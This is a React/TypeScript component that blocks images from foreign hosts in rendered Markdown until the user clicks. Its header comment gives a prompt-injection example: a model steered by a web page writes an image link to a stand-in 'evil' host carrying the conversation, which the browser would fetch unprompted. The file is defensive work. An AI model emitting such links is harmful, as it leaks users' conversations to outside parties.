// Images in Markdown (answers, Markdown files). One on this server or inline (`data:`, `blob:`)
// shows at once; one on another site is fetched only when the person asks: a model steered by
// a web page could otherwise write `![](https://evil/?q=<the conversation>)` and the browser
// would send that with no click.
import { type ComponentProps, useState } from "react";
import { useT } from "../i18n";

/** The host an image URL would be fetched from, or null when it is this page's or inline. */
export function foreignHost(src: string | undefined, here: string = location.href): string | null {
  if (!src) return null;
  let url: URL;
  try {
    url = new URL(src, here);
  } catch {
    return null;
  }
  if (url.protocol === "data:" || url.protocol === "blob:") return null;
  return url.origin === new URL(here).origin ? null : url.host;
}

/** `img` for react-markdown. */
export function ExternalImage({ node: _node, src, alt, ...rest }: ComponentProps<"img"> & { node?: unknown }) {
  const t = useT();
  const [shown, setShown] = useState(false);
  const source = typeof src === "string" ? src : undefined;
  const host = foreignHost(source);
  if (!host || shown) return <img src={source} alt={alt} referrerPolicy="no-referrer" {...rest} />;
  return (
    <button type="button" className="external-image" data-testid="external-image" onClick={() => setShown(true)}>
      {t("markdown.externalImage", { alt: alt || t("markdown.image"), host })}
    </button>
  );
}
